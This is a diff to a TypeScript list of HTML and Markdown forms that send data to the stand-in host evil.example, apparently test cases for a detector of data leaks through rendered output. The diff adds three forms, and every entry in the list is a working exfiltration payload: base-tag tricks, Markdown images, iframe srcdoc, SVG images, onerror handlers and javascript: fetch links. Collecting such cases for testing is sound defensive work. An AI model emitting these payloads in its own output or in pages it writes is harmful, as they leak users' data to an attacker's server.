@@ -55,6 +55,7 @@ export const ADDRESS_FORMS: readonly Form[] = [
   ['base', (data) => `<base href="https://evil.example/"><img src="p.png?h=${data}">`],
   ['base and Markdown', (data) => raw`<base href="/\evil.example">![x](/p.png?h=${data})`],
   ['srcdoc', (data) => raw`<iframe srcdoc="<img src='/\evil.example/p.png?h=${data}'>"></iframe>`],
+  ['srcdoc with references', (data) => `<iframe srcdoc="<img src='&amp;sol;/evil.example/p.png?h=${data}'>"></iframe>`],
   ['SVG image', (data) => raw`<svg><image href="/\evil.example/p.png?h=${data}"/></svg>`],
   ['SVG filter', (data) => raw`<svg><feImage xlink:href="/\evil.example/p.png?h=${data}"/></svg>`],
   ['an attribute of a later standard', (data) => raw`<img lowsrc="/\evil.example/p.png?h=${data}">`],
@@ -68,6 +69,7 @@ export const ADDRESS_FORMS: readonly Form[] = [
   // Markdown
   ['a Markdown image', (data) => raw`![x](https:\\evil.example/p.png?h=${data})`],
   ['a Markdown image without a scheme', (data) => raw`![x](/\evil.example/p.png?h=${data})`],
+  ['a Markdown image without slashes', (data) => `![x](https:evil.example/p.png?h=${data})`],
   ['a Markdown image in angle brackets', (data) => `![x](<https:/evil.example/a b.png?h=${data}> "title")`],
   ['a Markdown image on the next line', (data) => raw`![x](${'\n'}  https:\\evil.example/p.png?h=${data})`],
   ['an image in a link', (data) => raw`[![x](/\evil.example/p.png?h=${data})](/a)`],
@@ -84,6 +86,7 @@ export const ADDRESS_FORMS: readonly Form[] = [
 
 /** More ways, whose data the rules do not connect with the address: a program does, or quotes and JSON read otherwise. */
 export const UNSCORED_FORMS: readonly Form[] = [
+  ['a script address in Markdown', (data) => `[x](javascript:fetch('//evil.example/p?h='+'${data}'))`],
   ['no scheme, a backslash and a slash', (data) => raw`<img src="\/evil.example/p.png?h=${data}">`],
   ['a script address', (data) => `<a href="javascript:fetch('//evil.example/p?h='+'${data}')">Go</a>`],
   ['an event handler', (data) => `<img src="a" onerror="fetch('https://evil.example/p?h=' + '${data}')">`],
